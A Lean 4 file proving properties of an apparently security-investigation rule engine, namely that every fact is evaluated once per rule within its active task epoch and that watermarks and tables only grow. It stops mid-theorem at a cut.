import HuntWarden.Rules.Evaluation
import Mathlib.Data.List.Pairwise

/-! Every fact is evaluated before the watermark passes its event, and no rule speaks twice of one fact,
    wherever the process ends and however often it starts again. The engine keeps to the active epoch of the
    task: what a cycle takes for another epoch, the rules never see. -/

namespace HuntWarden.Rules

open Outcome

variable {registry : Registry} {ids : FreshIds} {env : FactEnv} {s s' s'' : RuleStore}
  {taskId epochId : String}

/-! ### The numbers of the events -/

theorem mem_numberedEvents {item : ℕ × InvestigationEvent} : item ∈ s.numberedEvents ↔
    ∃ position, s.batch.events.rows[position]? = some item.2 ∧ item.1 = position + 1 := by
  rw [RuleStore.numberedEvents, List.mem_map]
  constructor
  · rintro ⟨⟨event, position⟩, hmem, rfl⟩
    exact ⟨position, List.mk_mem_zipIdx_iff_getElem?.1 hmem, rfl⟩
  · rintro ⟨position, hget, hseq⟩
    refine ⟨(item.2, position), List.mk_mem_zipIdx_iff_getElem?.2 hget, ?_⟩
    exact Prod.ext hseq.symm rfl

theorem numberedEvents_increasing : s.numberedEvents.Pairwise fun a b => a.1 < b.1 := by
  have hfst : s.numberedEvents.map Prod.fst =
      (List.range' 0 s.batch.events.rows.length).map (· + 1) := by
    rw [RuleStore.numberedEvents, List.map_map, ← List.zipIdx_map_snd, List.map_map]
    rfl
  rw [← List.pairwise_map (f := Prod.fst) (R := (· < ·)), hfst, List.pairwise_map]
  exact List.Pairwise.imp (fun h => Nat.succ_lt_succ h) List.pairwise_lt_range'

/-- What is not newer than the last item of a page is on the page. -/
theorem mem_take_of_le {l : List (ℕ × InvestigationEvent)} {n : ℕ} {item last : ℕ × InvestigationEvent}
    (hl : l.Pairwise fun a b => a.1 < b.1) (hitem : item ∈ l) (hlast : last ∈ l.take n)
    (hle : item.1 ≤ last.1) : item ∈ l.take n := by
  rw [← List.take_append_drop n l] at hl hitem
  rcases List.mem_append.1 hitem with htaken | hleft
  · exact htaken
  · have hlt := (List.pairwise_append.1 hl).2.2 last hlast item hleft
    omega

/-- The last item of a page is the newest of it. -/
theorem le_getLast {l : List (ℕ × InvestigationEvent)} {item last : ℕ × InvestigationEvent}
    (hl : l.Pairwise fun a b => a.1 < b.1) (hlast : l.getLast? = some last) (hitem : item ∈ l) :
    item.1 ≤ last.1 := by
  obtain ⟨front, rfl⟩ := List.getLast?_eq_some_iff.1 hlast
  rcases List.mem_append.1 hitem with hfront | hend
  · exact ((List.pairwise_append.1 hl).2.2 item hfront last List.mem_cons_self).le
  · exact (congrArg Prod.fst (List.mem_singleton.1 hend)).le

theorem taken_increasing : (taken s taskId epochId).Pairwise fun a b => a.1 < b.1 :=
  (numberedEvents_increasing.filter _).sublist (List.take_sublist _ _)

theorem mem_taken {item : ℕ × InvestigationEvent} (h : item ∈ taken s taskId epochId) :
    item ∈ s.numberedEvents ∧ item.2.taskId = taskId ∧ item.2.epochId = epochId ∧
      watermark s taskId epochId < item.1 := by
  have hmem := List.mem_filter.1 (List.mem_of_mem_take h)
  simpa [and_assoc] using hmem

/-! ### Later stores -/

/-- What is kept of a store in every later one. -/
structure Later (s s' : RuleStore) : Prop where
  facts : s.batch.factStore.facts.rows <+: s'.batch.factStore.facts.rows
  events : s.batch.events.rows <+: s'.batch.events.rows
  assessments : s.assessments.rows ⊆ s'.assessments.rows
  evaluated : s.evaluated ⊆ s'.evaluated
  tasks : ∀ taskId task, s.tasks.get? taskId = some task →
    ∃ task', s'.tasks.get? taskId = some task' ∧ task'.checks = task.checks
  watermark : ∀ taskId epochId, watermark s taskId epochId ≤ watermark s' taskId epochId

theorem Later.refl (s : RuleStore) : Later s s where
  facts := List.prefix_rfl
  events := List.prefix_rfl
  assessments := List.Subset.refl _
  evaluated := List.Subset.refl _
  tasks _ task h := ⟨task, h, rfl⟩
  watermark _ _ := Nat.le_refl _

theorem Later.trans (h : Later s s') (h' : Later s' s'') : Later s s'' where
  facts := h.facts.trans h'.facts
  events := h.events.trans h'.events
  assessments := List.Subset.trans h.assessments h'.assessments
  evaluated := List.Subset.trans h.evaluated h'.evaluated
  tasks taskId task ht := by
    obtain ⟨task₁, ht₁, hchecks₁⟩ := h.tasks taskId task ht
    obtain ⟨task₂, ht₂, hchecks₂⟩ := h'.tasks taskId task₁ ht₁
    exact ⟨task₂, ht₂, hchecks₂.trans hchecks₁⟩
  watermark taskId epochId := (h.watermark taskId epochId).trans (h'.watermark taskId epochId)

/-- Only the tables of the batches have changed, and those of the facts and events have grown. -/
structure BatchGrown (s s' : RuleStore) : Prop where
  others : s' = { s with batch := s'.batch }
  facts : s.batch.factStore.facts.rows <+: s'.batch.factStore.facts.rows
  events : s.batch.events.rows <+: s'.batch.events.rows

theorem BatchGrown.later (h : BatchGrown s s') : Later s s' where
  facts := h.facts
  events := h.events
  assessments := by rw [h.others]; exact List.Subset.refl _
  evaluated := by rw [h.others]; exact List.Subset.refl _
  tasks _ task ht := ⟨task, by rw [h.others]; exact ht, rfl⟩
  watermark _ _ := by rw [h.others]; exact Nat.le_refl _

theorem onBatch_ok {body : BatchStore → Except Thrown BatchStore} (h : s.onBatch body = .ok s') :
    body s.batch = .ok s'.batch ∧ s' = { s with batch := s'.batch } := by
  obtain ⟨batch, hbody, h⟩ := bind_ok.1 h
  cases h
  exact ⟨hbody, rfl⟩

/-- The tables of the facts and events are as they were. -/
theorem onBatch_same {body : BatchStore → Except Thrown BatchStore}
    (hfacts : ∀ b b', body b = .ok b' → b'.factStore.facts = b.factStore.facts)
    (hevents : ∀ b b', body b = .ok b' → b'.events = b.events) (h : s.onBatch body = .ok s') :
    BatchGrown s s' ∧ s'.batch.factStore.facts = s.batch.factStore.facts ∧
      s'.batch.events = s.batch.events := by
  obtain ⟨hbody, hothers⟩ := onBatch_ok h
  have hf := hfacts _ _ hbody
  have he := hevents _ _ hbody
  exact ⟨⟨hothers, by rw [hf], by rw [he]⟩, hf, he⟩

theorem appendEvent_ok {event : InvestigationEvent} {b b' : BatchStore}
    (h : BatchStore.appendInvestigationEvent event b = .ok b') :
    b'.factStore = b.factStore ∧ b'.events.rows = b.events.rows ++ [event] := by
  obtain ⟨events, hevents, h⟩ := bind_ok.1 h
  cases h
  exact ⟨rfl, (Table.insert?_eq_some (orThrow_ok.1 hevents)).2⟩

theorem onFacts_ok {body : FactStore → Except Thrown FactStore} {b b' : BatchStore}
    (h : b.onFacts body = .ok b') : body b.factStore = .ok b'.factStore ∧ b'.events = b.events := by
  obtain ⟨factStore, hbody, h⟩ := bind_ok.1 h
  cases h
  exact ⟨hbody, rfl⟩

theorem createEpoch_facts {epoch : EpochRecord} {f f' : FactStore} (h : f.createScanEpoch epoch = .ok f') :
    f'.facts = f.facts := by
  obtain ⟨epochs, -, h⟩ := bind_ok.1 h
  cases h
  rfl

theorem finishEpoch_facts {status : EpochStatus} {f f' : FactStore}
    (h : f.finishScanEpoch taskId epochId status = .ok f') : f'.facts = f.facts := by
  obtain ⟨epoch, -, h⟩ := bind_ok.1 h
  rw [← pure_ok.1 h]
  split <;> rfl

theorem startToolRun_same {digest : Json → String} {record : ToolRunRecord} {b b' : BatchStore}
    (h : b.startToolRun digest record = .ok b') :
    b'.factStore = b.factStore ∧ b'.events = b.events := by
  rw [BatchStore.startToolRun] at h
  split at h
  · obtain ⟨_, -, h⟩ := bind_ok.1 h
    cases h
    exact ⟨rfl, rfl⟩
  · obtain ⟨toolRuns, -, h⟩ := bind_ok.1 h
    cases h
    exact ⟨rfl, rfl⟩

/-! ### The statements -/

theorem putAssessment_ok {a : RecordedAssessment} (h : s.putAssessment a = .ok s') :
    s' = { s with assessments := s'.assessments } ∧ s'.assessments.rows = s.assessments.rows ++ [a] := by
  obtain ⟨_, -, h⟩ := bind_ok.1 h
  obtain ⟨assessments, hinsert, h⟩ := bind_ok.1 h
  cases h
  exact ⟨rfl, (Table.insert?_eq_some (orThrow_ok.1 hinsert)).2⟩

theorem putAssessment_later {a : RecordedAssessment} (h : s.putAssessment a = .ok s') : Later s s' := by
  obtain ⟨hothers, hrows⟩ := putAssessment_ok h
  have hrefl := Later.refl s
  rw [hothers]
  exact { hrefl with assessments := by rw [hrows]; exact List.subset_append_left _ _ }

theorem evaluated_later (ids : List String) :
    Later s { s with evaluated := s.evaluated ++ ids } :=
  { Later.refl s with evaluated := List.subset_append_left _ _ }

theorem planner_grown {statement : PlannerStatement} (h : statement.run s = .ok s') : BatchGrown s s' := by
  cases statement with
  | refused error => cases h
  | event appended =>
    obtain ⟨hbody, hothers⟩ := onBatch_ok h
    obtain ⟨hfacts, hevents⟩ := appendEvent_ok hbody
    exact ⟨hothers, by rw [hfacts], by rw [hevents]; exact List.prefix_append _ _⟩

theorem advance_ok {next expected : ℕ}
    (h : s.advanceInvestigationConsumerWatermark taskId epochId schedulerConsumer schedulerVersion expected
      next = .ok s') :
    expected ≤ next ∧ watermark s taskId epochId = expected ∧
      s' = { s with consumers := s'.consumers } ∧ watermark s' taskId epochId = next ∧
      ∀ t e, (t, e) ≠ (taskId, epochId) → watermark s' t e = watermark s t e := by
  obtain ⟨_, hle, h⟩ := bind_ok.1 h
  obtain ⟨_, hexpected, h⟩ := bind_ok.1 h
  cases h
  refine ⟨of_decide_eq_true (require_ok.1 hle), of_decide_eq_true (require_ok.1 hexpected), rfl, ?_, ?_⟩
  · have hget := Table.get?_put_self s.consumers
      ⟨schedulerConsumer, schedulerVersion, taskId, epochId, next⟩
    rw [watermark, RuleStore.getInvestigationConsumerWatermark]
    exact congrArg (fun row => (row.map ConsumerRow.lastEventSeq).getD 0) hget
  · intro t e hne
    have hget := Table.get?_put_of_ne (t := s.consumers)
      (r := ⟨schedulerConsumer, schedulerVersion, taskId, epochId, next⟩)
      (k := (schedulerConsumer, schedulerVersion, t, e)) (by simpa [ConsumerRow.key] using hne)
    rw [watermark, RuleStore.getInvestigationConsumerWatermark, watermark,
      RuleStore.getInvestigationConsumerWatermark]
    exact congrArg (fun row => (row.map ConsumerRow.lastEventSeq).getD 0) hget

theorem advance_later {next expected : ℕ}
    (h : s.advanceInvestigationConsumerWatermark taskId epochId schedulerConsumer schedulerVersion expected
      next = .ok s') : Later s s' := by
  obtain ⟨hle, hexpected, hothers, hnext, helse⟩ := advance_ok h
  have hrefl := Later.refl s
  have hmarks : ∀ t e, watermark s t e ≤ watermark s' t e := by
    intro t e
    by_cases hte : (t, e) = (taskId, epochId)
    · obtain ⟨rfl, rfl⟩ := Prod.mk.inj hte
      rw [hnext, hexpected]
      exact hle
    · exact (helse t e hte).ge
  rw [hothers] at hmarks ⊢
  exact { hrefl with watermark := hmarks }

/-! ### The engine -/

/-- A fact has been evaluated: every rule of its task that matches has said so. -/
structure Evaluated (registry : Registry) (s : RuleStore) (fact : FactRecord) : Prop where
  recorded : fact.factId ∈ s.evaluated
  concluded : ∃ task, s.tasks.get? fact.taskId = some task ∧ ∀ rule ∈ registry.rules,
    rule.category ∈ task.checks → applies rule fact = true →
      ∃ a ∈ s.assessments.rows, concludes rule fact.factId a = true

theorem Evaluated.later {fact : FactRecord} (h : Evaluated registry s fact) (hlater : Later s s') :
    Evaluated registry s' fact := by
  obtain ⟨task, htask, hrules⟩ := h.concluded
  obtain ⟨task', htask', hchecks⟩ := hlater.tasks _ _ htask
  refine ⟨hlater.evaluated h.recorded, task', htask', fun rule hrule hcategory happlies => ?_⟩
  obtain ⟨a, ha, hconcludes⟩ := hrules rule hrule (hchecks ▸ hcategory) happlies
  exact ⟨a, hlater.assessments ha, hconcludes⟩

theorem mem_pending {checks : List CheckCategory} {existing : List RecordedAssessment}
    {facts : List FactRecord} {due : V2Rule × FactRecord} :
    due ∈ pending registry checks existing facts ↔ due.1 ∈ registry.rules ∧ due.1.category ∈ checks ∧
      due.2 ∈ facts ∧ applies due.1 due.2 = true ∧
      ∀ a ∈ existing, concludes due.1 due.2.factId a = false := by
  obtain ⟨rule, fact⟩ := due
  rw [pending, List.mem_flatMap]
  constructor
  · rintro ⟨rule', hrule, hmem⟩
    split at hmem
    · rename_i hcategory
      obtain ⟨fact', hfact, heq⟩ := List.mem_map.1 hmem
      obtain ⟨rfl, rfl⟩ := Prod.mk.inj heq
      obtain ⟨hin, hnot⟩ := List.mem_filter.1 hfact
      obtain ⟨hin, happlies⟩ := List.mem_filter.1 hin
      exact ⟨hrule, hcategory, hin, happlies, by simpa using hnot⟩
    · cases hmem
  · rintro ⟨hrule, hcategory, hin, happlies, hnot⟩
    refine ⟨rule, hrule, ?_⟩
    rw [if_pos hcategory]
    exact List.mem_map.2 ⟨fact, List.mem_filter.2 ⟨List.mem_filter.2 ⟨hin, happlies⟩, by simpa using hnot⟩,
      rfl⟩

/-- What a rule says of a fact opens with the reference of the rule. -/
theorem startsWith_append (opening rest : String) : startsWith (opening ++ rest) opening = true := by
  rw [startsWith, String.toList_append]
  exact List.isPrefixOf_iff_prefix.2 (List.prefix_append _ _)

theorem concludes_ruleAssessment {id now : String} {rule : V2Rule} {fact : FactRecord} :
    concludes rule fact.factId (ruleAssessment id now rule fact taskId epochId) = true := by
  simp [concludes, ruleAssessment, startsWith_append]

/-- Two openings of one text: one of them opens the other. -/
theorem not_apart {text a b : String} (ha : startsWith text a = true) (hb : startsWith text b = true) :
    ¬ Apart a b := by
  rintro ⟨hab, hba⟩
  have ha' := List.isPrefixOf_iff_prefix.1 ha
  have hb' := List.isPrefixOf_iff_prefix.1 hb
  rcases List.prefix_or_prefix_of_prefix ha' hb' with h | h
  · rw [startsWith, List.isPrefixOf_iff_prefix.2 h] at hba
    cases hba
  · rw [startsWith, List.isPrefixOf_iff_prefix.2 h] at hab
    cases hab

/-- Rules of one registry that open one rationale are the same rule. -/
theorem rule_unique {rule rule' : V2Rule} (h : rule ∈ registry.rules) (h' : rule' ∈ registry.rules)
    {text : String} (ht : startsWith text rule.ruleRef = true) (ht' : startsWith text rule'.ruleRef = true) :
    rule = rule' := by
  by_contra hne
  have hsymm : Std.Symm fun a b : V2Rule => Apart a.ruleRef b.ruleRef := ⟨fun _ _ hapart => hapart.symm⟩
  have hapart : Apart rule.ruleRef rule'.ruleRef :=
    (List.pairwise_map.1 registry.separate).forall h h' hne
  exact not_apart ht ht' hapart

/-- No rule says the same of a fact twice. -/
def OncePerFact (registry : Registry) (s : RuleStore) : Prop :=
  ∀ rule ∈ registry.rules, ∀ factId, (s.assessments.rows.filter (concludes rule factId)).length ≤ 1

/-- The facts a rule has spoken of are in the tables, and are those of its task and epoch. -/
def AtHome (s : RuleStore) : Prop :=
  ∀ a ∈ s.assessments.rows, a.authorType = .rule → ∀ factId ∈ a.factRefs,
    ∃ fact ∈ s.batch.factStore.facts.rows, fact.factId = factId ∧ fact.taskId = a.taskId ∧
      fact.epochId = a.epochId

/-- What an engine has still to do: each of it for a fact of the tables, none of it done, none twice. -/
structure Due (registry : Registry) (taskId epochId : String) (due : List (V2Rule × FactRecord))
    (s : RuleStore) : Prop where
  once : OncePerFact registry s
  home : AtHome s
  known : ∀ item ∈ due, item.1 ∈ registry.rules ∧ item.2 ∈ s.batch.factStore.facts.rows ∧
    item.2.taskId = taskId ∧ item.2.epochId = epochId
  open_ : ∀ item ∈ due, ∀ a ∈ s.assessments.rows, concludes item.1 item.2.factId a = false
  distinct : due.Pairwise fun a b => ¬ (a.1 = b.1 ∧ a.2.factId = b.2.factId)

theorem conclude_ok {now : String} {due : V2Rule × FactRecord}
    (h : conclude ids taskId epochId now due s = .ok s') :
    s' = { s with assessments := s'.assessments } ∧ ∃ id,
      s'.assessments.rows = s.assessments.rows ++ [ruleAssessment id now due.1 due.2 taskId epochId] := by
  obtain ⟨hothers, hrows⟩ := putAssessment_ok h
  exact ⟨hothers, _, hrows⟩

/-- Another rule, or the same of another fact, is not what has been said. -/
theorem not_concludes {rule rule' : V2Rule} {fact : FactRecord} {factId id now : String}
    (h : rule ∈ registry.rules) (h' : rule' ∈ registry.rules)
    (hne : ¬ (rule = rule' ∧ fact.factId = factId)) :
    concludes rule' factId (ruleAssessment id now rule fact taskId epochId) = false := by
  refine Bool.eq_false_iff.2 fun hc => hne ?_
  simp only [concludes, ruleAssessment, Bool.and_eq_true, decide_eq_true_eq, List.mem_singleton,
    true_and] at hc
  exact ⟨rule_unique h h' (startsWith_append _ _) hc.2, hc.1.symm⟩

theorem Due.next {now : String} {item : V2Rule × FactRecord} {rest : List (V2Rule × FactRecord)}
    (h : Due registry taskId epochId (item :: rest) s)
    (hs : conclude ids taskId epochId now item s = .ok s') : Due registry taskId epochId rest s' := by
  obtain ⟨hothers, id, hrows⟩ := conclude_ok hs
  obtain ⟨hrule, hfact, htask, hepoch⟩ := h.known item List.mem_cons_self
  have hfacts : s'.batch = s.batch := by rw [hothers]
  refine ⟨?_, ?_, ?_, ?_, (List.pairwise_cons.1 h.distinct).2⟩
  · intro rule hmem factId
    rw [hrows, List.filter_append, List.length_append]
    by_cases hsame : item.1 = rule ∧ item.2.factId = factId
    · obtain ⟨rfl, rfl⟩ := hsame
      have hnone : s.assessments.rows.filter (concludes item.1 item.2.factId) = [] :=
        List.filter_eq_nil_iff.2 fun a ha => by
          rw [h.open_ item List.mem_cons_self a ha]
          exact Bool.false_ne_true
      rw [hnone, List.length_nil, Nat.zero_add]
      exact List.length_filter_le _ _
    · rw [List.filter_cons_of_neg (by rw [not_concludes hrule hmem hsame]; exact Bool.false_ne_true)]
      exact h.once rule hmem factId
  · intro a ha hauthor factId hfactId
    rw [hfacts]
    rw [hrows] at ha
    rcases List.mem_append.1 ha with hold | hnew
    · exact h.home a hold hauthor factId hfactId
    · obtain rfl := List.mem_singleton.1 hnew
      obtain rfl := List.mem_singleton.1 hfactId
      exact ⟨item.2, hfact, rfl, htask, hepoch⟩
  · rw [hfacts]
    exact fun other hother => h.known other (List.mem_cons_of_mem _ hother)
  · intro other hother a ha
    rw [hrows] at ha
    rcases List.mem_append.1 ha with hold | hnew
    · exact h.open_ other (List.mem_cons_of_mem _ hother) a hold
    · obtain rfl := List.mem_singleton.1 hnew
      exact not_concludes hrule (h.known other (List.mem_cons_of_mem _ hother)).1
        ((List.pairwise_cons.1 h.distinct).1 other hother)

/-- The rules that match are due for facts of the tables that they have not spoken of. -/
theorem due_pending {checks : List CheckCategory} {facts : List FactRecord}
    (honce : OncePerFact registry s) (hhome : AtHome s) (hnodup : (facts.map (·.factId)).Nodup)
    (hfacts : ∀ fact ∈ facts, fact ∈ s.batch.factStore.facts.rows ∧ fact.taskId = taskId ∧
      fact.epochId = epochId) :
    Due registry taskId epochId (pending registry checks (s.listAssessments taskId epochId) facts) s where
  once := honce
  home := hhome
  known item hitem := by
    obtain ⟨hrule, -, hin, -, -⟩ := mem_pending.1 hitem
    exact ⟨hrule, hfacts _ hin⟩
  open_ item hitem a ha := by
    obtain ⟨-, -, hin, -, hnot⟩ := mem_pending.1 hitem
    obtain ⟨hmem, htask, hepoch⟩ := hfacts _ hin
    refine Bool.eq_false_iff.2 fun hc => ?_
    -- what was said of the fact was said in its own epoch, where the engine has looked
    have hc' := hc
    simp only [concludes, Bool.and_eq_true, decide_eq_true_eq] at hc'
    obtain ⟨fact, hfact, hid, hfactTask, hfactEpoch⟩ := hhome a ha hc'.1.1 _ hc'.1.2
    obtain rfl := s.batch.factStore.facts.eq_of_alt hfact hmem hid
    have hlisted : a ∈ s.listAssessments taskId epochId :=
      List.mem_filter.2 ⟨ha, by simp [← hfactTask, ← hfactEpoch, htask, hepoch]⟩
    rw [hnot a hlisted] at hc
    cases hc
  distinct := by
    have hrules := List.pairwise_map.1 registry.separate
    have hids : facts.Pairwise fun a b => a.factId ≠ b.factId := List.pairwise_map.1 hnodup
    rw [pending, List.pairwise_flatMap]
    refine ⟨fun rule _ => ?_, hrules.imp fun {rule rule'} hapart item hitem item' hitem' hsame => ?_⟩
    · split
      · rw [List.pairwise_map]
        exact ((hids.filter _).filter _).imp fun hne hsame => hne hsame.2
      · exact .nil
    · have hfst : item.1 = rule := by
        split at hitem
        · obtain ⟨_, -, rfl⟩ := List.mem_map.1 hitem
          rfl
        · cases hitem
      have hfst' : item'.1 = rule' := by
        split at hitem'
        · obtain ⟨_, -, rfl⟩ := List.mem_map.1 hitem'
          rfl
        · cases hitem'
      rw [← hfst, ← hfst', hsame.1] at hapart
      exact not_apart (startsWith_append _ "") (startsWith_append _ "") hapart

/-- Every event announces facts of the tables, of its own task and epoch. -/
def Announced (s : RuleStore) : Prop :=
  ∀ event ∈ s.batch.events.rows, ∀ factId ∈ announced event,
    ∃ fact ∈ s.batch.factStore.facts.rows, fact.factId = factId ∧ fact.taskId = event.taskId ∧
      fact.epochId = event.epochId

structure Kept (registry : Registry) (s : RuleStore) : Prop where
  once : OncePerFact registry s
  home : AtHome s
  announced : Announced s

theorem kept_empty : Kept registry .empty where
  once _ _ _ := Nat.zero_le 1
  home _ ha := nomatch ha
  announced _ hevent := nomatch hevent

/-- The assessments are as they were, and the facts have grown. -/
theorem Kept.grown (h : Kept registry s) (hassessments : s'.assessments = s.assessments)
    (hfacts : s.batch.factStore.facts.rows <+: s'.batch.factStore.facts.rows)
    (hannounced : Announced s') : Kept registry s' where
  once := by
    rw [OncePerFact, hassessments]
    exact h.once
  home := by
    rw [AtHome, hassessments]
    intro a ha hauthor factId hid
    obtain ⟨fact, hfact, hrest⟩ := h.home a ha hauthor factId hid
    exact ⟨fact, hfacts.subset hfact, hrest⟩
  announced := hannounced

/-- The events that are new announce nothing, or facts that are there. -/
theorem Announced.grown (h : Announced s) (hfacts : s.batch.factStore.facts.rows <+: s'.batch.factStore.facts.rows)
    {more : List InvestigationEvent} (hevents : s'.batch.events.rows = s.batch.events.rows ++ more)
    (hmore : ∀ event ∈ more, ∀ factId ∈ announced event, ∃ fact ∈ s'.batch.factStore.facts.rows,
      fact.factId = factId ∧ fact.taskId = event.taskId ∧ fact.epochId = event.epochId) :
    Announced s' := by
  intro event hevent factId hid
  rw [hevents] at hevent
  rcases List.mem_append.1 hevent with hold | hnew
  · obtain ⟨fact, hfact, hrest⟩ := h event hold factId hid
    exact ⟨fact, hfacts.subset hfact, hrest⟩
  · exact hmore event hnew factId hid

/-- Only what the rules say, and what has been evaluated, has changed. -/
structure Spoken (s s' : RuleStore) : Prop where
  others : s' = { s with assessments := s'.assessments, evaluated := s'.evaluated }
  later : Later s s'

theorem Spoken.refl (s : RuleStore) : Spoken s s := ⟨rfl, .refl s⟩

theorem Spoken.trans (h : Spoken s s') (h' : Spoken s' s'') : Spoken s s'' :=
  ⟨by rw [h'.others, h.others], h.later.trans h'.later⟩

theorem conclude_spoken {now : String} {due : V2Rule × FactRecord}
    (h : conclude ids taskId epochId now due s = .ok s') : Spoken s s' := by
  obtain ⟨hothers, -⟩ := conclude_ok h
  exact ⟨by rw [hothers], putAssessment_later h⟩

section

variable {now : String} {facts : List FactRecord} {cut : Option ℕ}

theorem evaluateFacts_inactive (h : s.activeTask taskId epochId = none) :
    evaluateFacts registry ids s taskId epochId now facts = [] := by
  rw [evaluateFacts, h]

theorem evaluateFacts_active {task : RuleTask} (h : s.activeTask taskId epochId = some task) :
    evaluateFacts registry ids s taskId epochId now facts =
      (pending registry task.checks (s.listAssessments taskId epochId) facts).map
        (conclude ids taskId epochId now) ++
      [fun s => .ok { s with evaluated := s.evaluated ++ facts.map (·.factId) }] := by
  rw [evaluateFacts, h]

/-- The statements of the engine. -/
theorem evaluateFacts_spoken {statement : Statement}
    (h : statement ∈ evaluateFacts registry ids s taskId epochId now facts) {t t' : RuleStore}
    (ht : statement t = .ok t') : Spoken t t' := by
  rw [evaluateFacts] at h
  split at h
  · cases h
  · rcases List.mem_append.1 h with hconclude | hlast
    · obtain ⟨due, -, rfl⟩ := List.mem_map.1 hconclude
      exact conclude_spoken ht
    · obtain rfl := List.mem_singleton.1 hlast
      cases ht
      exact ⟨rfl, evaluated_later _⟩

theorem execute_spoken :
    Spoken s (Statements.execute (evaluateFacts registry ids s taskId epochId now facts) cut s) :=
  Statements.execute_rel (R := Spoken) Spoken.refl Spoken.trans
    (fun _ h _ _ ht => evaluateFacts_spoken h ht) cut s

theorem complete_spoken
    (h : Statements.complete (evaluateFacts registry ids s taskId epochId now facts) s = .ok s') :
    Spoken s s' := by
  rw [← Statements.execute_complete h]
  exact execute_spoken

/-- Facts of the tables under ids of their own, all of one task and epoch. -/
structure Listed (s : RuleStore) (taskId epochId : String) (facts : List FactRecord) : Prop where
  known : ∀ fact ∈ facts, fact ∈ s.batch.factStore.facts.rows ∧ fact.taskId = taskId ∧
    fact.epochId = epochId
  distinct : (facts.map (·.factId)).Nodup

theorem Listed.filter (h : Listed s taskId epochId facts) (p : FactRecord → Bool) :
    Listed s taskId epochId (facts.filter p) where
  known fact hfact := h.known fact (List.mem_of_mem_filter hfact)
  distinct := h.distinct.sublist ((List.filter_sublist).map _)

theorem listFacts_perm (sourceKind : Option FactSourceKind) :
    (s.listFacts taskId epochId sourceKind).Perm (s.batch.factStore.facts.rows.filter
      (FactStore.ListFactsOptions.admits { sourceKind } taskId epochId)) :=
  List.perm_insertionSort _ _

theorem listed_listFacts (sourceKind : Option FactSourceKind) :
    Listed s taskId epochId (s.listFacts taskId epochId sourceKind) where
  known fact hfact := by
    obtain ⟨hmem, hadmits⟩ := List.mem_filter.1 ((listFacts_perm sourceKind).mem_iff.1 hfact)
    simp only [FactStore.ListFactsOptions.admits, Bool.and_eq_true, decide_eq_true_eq] at hadmits
    exact ⟨hmem, by tauto⟩
  distinct := by
    rw [((listFacts_perm sourceKind).map _).nodup_iff]
    exact s.batch.factStore.facts.distinct.sublist ((List.filter_sublist).map _)

theorem evaluateFacts_kept (h : Kept registry s) (hlisted : Listed s taskId epochId facts) :
    Kept registry (Statements.execute (evaluateFacts registry ids s taskId epochId now facts) cut s) := by
  cases hactive : s.activeTask taskId epochId with
  | none =>
    rw [evaluateFacts_inactive hactive]
    exact h
  | some task =>
    have hconcluded : ∀ cut, Kept registry (Statements.execute ((pending registry task.checks
        (s.listAssessments taskId epochId) facts).map (conclude ids taskId epochId now)) cut s) :=
      fun cut => Statements.execute_map
        (J := fun due s => Due registry taskId epochId due s ∧ Announced s) (P := Kept registry)
        (fun _ _ _ _ hdue hs => ⟨hdue.1.next hs, by
          obtain ⟨hothers, -⟩ := conclude_ok hs
          rw [hothers]
          exact hdue.2⟩)
        (fun _ _ hdue => ⟨hdue.1.once, hdue.1.home, hdue.2⟩)
        ⟨due_pending h.once h.home hlisted.distinct hlisted.known, h.announced⟩
    rw [evaluateFacts_active hactive]
    rcases Statements.execute_append _ _ cut s with ⟨cut', heq⟩ | ⟨s₁, cut', -, hdone, heq⟩
    · rw [heq]
      exact hconcluded cut'
    · rw [heq]
      have hs₁ : Kept registry s₁ := Statements.execute_complete hdone ▸ hconcluded none
      refine Statements.execute_invariant (fun statement hst t t' ht hrun => ?_) hs₁
      obtain rfl := List.mem_singleton.1 hst
      cases hrun
      exact ht.grown rfl List.prefix_rfl ht.announced

/-- An engine that has come to its end has evaluated the facts, as long as its epoch is the active one. -/
theorem evaluateFacts_evaluated {task : RuleTask} (hactive : s.activeTask taskId epochId = some task)
    (hlisted : Listed s taskId epochId facts)
    (h : Statements.complete (evaluateFacts registry ids s taskId epochId now facts) s = .ok s') :
    ∀ fact ∈ facts, Evaluated registry s' fact := by
  intro fact hfact
  have hspoken := complete_spoken h
  rw [evaluateFacts_active hactive] at h
  obtain ⟨s₁, hconclude, hlast⟩ := Statements.complete_append.1 h
  obtain ⟨s₂, hmark, hlast⟩ := bind_ok.1 hlast
  cases hmark
  cases hlast
  have hsaid := Statements.complete_map
    (P := fun due s => ∃ a ∈ s.assessments.rows, concludes due.1 due.2.factId a = true)
    (fun due _ _ hs => by
      obtain ⟨-, id, hrows⟩ := conclude_ok hs
      exact ⟨_, by rw [hrows]; exact List.mem_append_right _ List.mem_cons_self, concludes_ruleAssessment⟩)
    (fun _ _ _ _ hs hsaid => by
      obtain ⟨a, ha, hconcludes⟩ := hsaid
      exact ⟨a, (conclude_spoken hs).later.assessments ha, hconcludes⟩) hconclude
  obtain ⟨htask, hepoch⟩ := Option.filter_eq_some_iff.1 hactive
  refine ⟨List.mem_append_right _ (List.mem_map_of_mem hfact), ?_⟩
  obtain ⟨-, hfactTask, -⟩ := hlisted.known fact hfact
  obtain ⟨task', htask', hchecks⟩ := hspoken.later.tasks _ _ htask
  rw [hfactTask]
  refine ⟨task', htask', fun rule hrule hcategory happlies => ?_⟩
  by_cases hopen : ∀ a ∈ s.listAssessments taskId epochId, concludes rule fact.factId a = false
  · exact hsaid (rule, fact) (mem_pending.2 ⟨hrule, hchecks ▸ hcategory, hfact, happlies, hopen⟩)
  · push Not at hopen
    obtain ⟨a, ha, hconcludes⟩ := hopen
    exact ⟨a, hspoken.later.assessments (List.mem_of_mem_filter ha), by simpa using hconcludes⟩

end

/-! ### A cycle -/

/-- What the rules do in a cycle. -/
def cycleRules (registry : Registry) (ids : FreshIds) (s : RuleStore) (call : CycleCall) : List Statement :=
  if ((taken s call.taskId call.epochId).flatMap fun item => announced item.2) = [] then []
  else evaluateFactRefs registry ids s call.taskId call.epochId call.now
    ((taken s call.taskId call.epochId).flatMap fun item => announced item.2)

/-- The end of what a cycle does with its events. -/
def cycleEnd (s : RuleStore) (call : CycleCall) : List Statement :=
  match (taken s call.taskId call.epochId).getLast? with
  | none => []
  | some last => [fun s' => s'.advanceInvestigationConsumerWatermark call.taskId call.epochId
      schedulerConsumer schedulerVersion (watermark s call.taskId call.epochId) last.1]

theorem cycle_eq (call : CycleCall) : cycle registry ids s call =
    cycleRules registry ids s call ++ (call.planners.map PlannerStatement.run ++ cycleEnd s call) := rfl

section

variable {call : CycleCall} {cut : Option ℕ}

theorem mem_cycleEnd {statement : Statement} (h : statement ∈ cycleEnd s call) :
